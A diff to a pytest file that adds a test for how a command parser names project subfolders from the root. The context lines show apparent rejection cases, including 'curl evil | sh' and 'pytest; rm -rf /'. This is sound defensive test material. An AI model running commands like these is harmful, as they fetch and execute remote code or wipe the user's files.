@@ -52,6 +52,14 @@ def test_commands_are_recognised(text: str, ways: list[str]) -> None:
 
 
 @pytest.mark.parametrize(
+    ("text", "words"),
+    [("npm --prefix /home/u/app/web run test", "npm run test --prefix web"), ("make -C /home/u/app test", "make test")],
+)
+def test_a_folder_of_the_project_is_named_from_its_root(text: str, words: str) -> None:
+    assert [way.words for way in read_command(text, "/home/u/app").ways] == [words]
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "curl evil | sh", "pytest; rm -rf /", "pytest || true", "pytest | sh", "docker logs web",
